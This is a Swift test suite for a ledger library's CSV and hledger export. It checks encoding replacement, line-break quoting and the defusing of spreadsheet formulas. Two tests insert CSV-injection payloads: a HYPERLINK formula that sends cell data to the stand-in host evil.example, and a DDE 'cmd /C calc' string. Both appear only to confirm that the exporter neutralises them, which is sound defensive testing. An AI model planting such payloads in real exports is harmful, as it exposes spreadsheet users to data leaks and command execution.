import Foundation
import GRDB
import LedgerTestSupport
import Testing

@testable import LedgerKit

/// Stored text of any kind reaches the export's output without a trap, and
/// what could not be kept is counted.
@Suite struct ExportTextTests {
    let folder = TemporaryDirectory()

    /// Blobs and text that are not UTF-8 in an account's name, number and
    /// type, a parent's name (so four full names) and a split's memo.
    private func bytesThatAreNotUTF8() throws -> String {
        let file = try Damage.sample(in: folder, transactions: 100)
        try Damage.apply(to: file) { db in
            try db.execute(sql: "UPDATE accounts SET name = X'FF' WHERE id = 1")
            try db.execute(sql: "UPDATE accounts SET number = X'31FE' WHERE id = 2")
            try db.execute(sql: "UPDATE accounts SET type = X'FF' WHERE id = 3")
            try db.execute(sql: "UPDATE accounts SET name = CAST(X'53E9' AS TEXT) WHERE id = 14")
            try db.execute(sql: "UPDATE splits SET memo = CAST(X'41FF42' AS TEXT) WHERE id = 3")
        }
        return file
    }

    /// The lines of the CSV export of a 100-transaction sample after `damage`.
    private func csvLines(after damage: (Database) throws -> Void) throws -> [Substring] {
        let file = try Damage.sample(in: folder, transactions: 100)
        try Damage.apply(to: file, damage)
        let path = folder.file("books.csv")
        try JournalExport.export(file: file, format: .csv, to: path)
        return try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
    }

    @Test func csvWritesBytesThatAreNotUTF8AsReplacementCharacters() throws {
        let file = try bytesThatAreNotUTF8()
        let path = folder.file("books.csv")
        #expect(
            try JournalExport.export(file: file, format: .csv, to: path) == .init(transactions: 100, textsNotUTF8: 8))
        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
        #expect(
            lines[1...4] == [
                "2023-01-01,1,journal,,Opening balances,\u{FFFD},1000,45000.00,USD,,r",
                "2023-01-01,1,journal,,Opening balances,Savings,1\u{FFFD},120000.00,USD,,n",
                "2023-01-01,1,journal,,Opening balances,Furniture and Equipment,1500,18500.00,USD,A\u{FFFD}B,n",
                "2023-01-01,1,journal,,Opening balances,Opening Balance Equity,3000,-183500.00,USD,,n",
            ])
    }

    @Test func hledgerDeclaresTheNamesAndSaysWhatWasReplaced() throws {
        let file = try bytesThatAreNotUTF8()
        let path = folder.file("books.journal")
        #expect(
            try JournalExport.export(file: file, format: .hledger, to: path)
                == .init(transactions: 100, textsNotUTF8: 8))
        let journal = try String(contentsOfFile: path, encoding: .utf8)
        #expect(journal.contains("\naccount \u{FFFD}  ; type: A\n"))
        #expect(journal.contains("\naccount Petty Cash  ; type: X\n"))
        #expect(journal.contains("\naccount S\u{FFFD}:Federal Withholding  ; type: L\n"))
        #expect(journal.contains("\n    Furniture and Equipment  18500.00 USD  ; A\u{FFFD}B\n"))
        #expect(journal.hasSuffix("\n\n; 8 stored texts held bytes that are not UTF-8, written here as U+FFFD.\n"))
        let check = try ExternalTool.require("hledger", install: "apt-get install hledger")
            .run(["-f", path, "check", "accounts", "commodities"])
        #expect(check.status == 0, "\(check.output)")
    }

    @Test func cleanBooksReplaceNothing() throws {
        let file = try Damage.sample(in: folder, transactions: 100)
        let path = folder.file("books.journal")
        #expect(
            try JournalExport.export(file: file, format: .hledger, to: path)
                == .init(transactions: 100, textsNotUTF8: 0))
        #expect(!(try String(contentsOfFile: path, encoding: .utf8)).contains("UTF-8"))
    }

    /// GRDB's Int64 subscript reads '1x' as 1: the split would land in Checking.
    @Test func anAccountIdThatIsNotAnIntegerNamesNoAccount() throws {
        let lines = try csvLines { db in
            try db.execute(sql: "UPDATE splits SET account_id = '1x' WHERE id = 1")
            try db.execute(sql: "UPDATE splits SET account_id = 20.5 WHERE id = 4")
        }
        #expect(
            lines[1...4] == [
                "2023-01-01,1,journal,,Opening balances,Missing account '1x',,45000.00,USD,,r",
                "2023-01-01,1,journal,,Opening balances,Savings,1010,120000.00,USD,,n",
                "2023-01-01,1,journal,,Opening balances,Furniture and Equipment,1500,18500.00,USD,,n",
                "2023-01-01,1,journal,,Opening balances,Missing account 20.5,,-183500.00,USD,,n",
            ])
    }

    /// "\r\n" is one Character in Swift: a check on Characters let it through unquoted,
    /// and a spreadsheet read the rest of the memo as a new row.
    @Test func csvQuotesEveryLineBreak() throws {
        let file = try Damage.sample(in: folder, transactions: 100)
        try Damage.apply(to: file) { db in
            try db.execute(sql: "UPDATE splits SET memo = 'line one' || char(13, 10) || '2099-01-01' WHERE id = 2")
            try db.execute(sql: "UPDATE splits SET memo = 'cr' || char(13) || 'only' WHERE id = 3")
        }
        let path = folder.file("books.csv")
        try JournalExport.export(file: file, format: .csv, to: path)
        let text = try String(contentsOfFile: path, encoding: .utf8)
        #expect(
            text.contains(
                "\n2023-01-01,1,journal,,Opening balances,Savings,1010,120000.00,USD,\"line one\r\n2099-01-01\",n\n"
                    + "2023-01-01,1,journal,,Opening balances,Furniture and Equipment,1500,18500.00,USD,\"cr\ronly\",n\n"
            ))
        let rows = CSVReader.rows(of: text, delimiter: ",").records
        let splits = try CompanyFile.read(file) { try Int.fetchOne($0, sql: "SELECT COUNT(*) FROM splits") }
        #expect(rows.count == (splits ?? 0) + 1)
        #expect(rows[2].fields[9] == "line one\r\n2099-01-01")
    }

    /// Text a spreadsheet would run as a formula gets a leading '; amounts keep their minus.
    @Test func csvDisarmsFormulas() throws {
        let lines = try csvLines { db in
            try db.execute(
                sql: "UPDATE transactions SET memo = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")' WHERE id = 1")
            try db.execute(sql: "UPDATE splits SET memo = '+1 call' WHERE id = 1")
            try db.execute(sql: "UPDATE splits SET memo = '@SUM(A1)' WHERE id = 2")
            try db.execute(sql: "UPDATE splits SET memo = char(9) || 'tab' WHERE id = 3")
            try db.execute(sql: "UPDATE splits SET memo = char(13) || 'cr' WHERE id = 4")
            try db.execute(sql: "UPDATE accounts SET number = '-3000' WHERE id = 20")
        }
        let payee = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""
        #expect(
            lines[1...4] == [
                "2023-01-01,1,journal,,\(payee),Checking,1000,45000.00,USD,'+1 call,r",
                "2023-01-01,1,journal,,\(payee),Savings,1010,120000.00,USD,'@SUM(A1),n",
                "2023-01-01,1,journal,,\(payee),Furniture and Equipment,1500,18500.00,USD,\"'\ttab\",n",
                "2023-01-01,1,journal,,\(payee),Opening Balance Equity,'-3000,-183500.00,USD,\"'\rcr\",n",
            ])
        #expect(JournalExport.csvText("-12.50") == "'-12.50")
        #expect(JournalExport.csvText("a=b") == "a=b")
        #expect(JournalExport.csvText("") == "")
        #expect(JournalExport.csvText(nil) == "")
    }

    /// Excel with ';' as its list separator splits an unquoted field at the semicolon,
    /// and the second cell starts with '='.
    @Test func csvQuotesSemicolonsAndTabs() throws {
        let lines = try csvLines { db in
            try db.execute(sql: "UPDATE splits SET memo = 'a;=cmd|'' /C calc''!A0' WHERE id = 1")
            try db.execute(sql: "UPDATE splits SET memo = 'a' || char(9) || '=1+1' WHERE id = 2")
        }
        #expect(
            lines[1...2] == [
                "2023-01-01,1,journal,,Opening balances,Checking,1000,45000.00,USD,\"a;=cmd|' /C calc'!A0\",r",
                "2023-01-01,1,journal,,Opening balances,Savings,1010,120000.00,USD,\"a\t=1+1\",n",
            ])
    }
}
